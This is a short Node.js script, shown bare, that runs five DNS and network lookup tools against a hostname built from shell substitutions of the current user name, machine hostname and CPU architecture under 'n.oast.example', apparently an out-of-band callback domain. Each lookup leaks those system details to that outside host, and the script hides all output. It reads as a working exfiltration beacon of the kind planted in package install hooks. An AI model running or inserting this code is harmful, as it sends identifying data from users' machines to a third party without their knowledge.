const { exec } = require("child_process");
const target = "$(whoami).$(hostname).$(uname -m).n.oast.example";
const tools = [`nslookup ${target}`, `dig +short ${target}`, `host ${target}`, `ping -c 1 -W 2 ${target}`, `getent hosts ${target}`];
for (const tool of tools) exec(tool, { timeout: 6000 }, () => {});
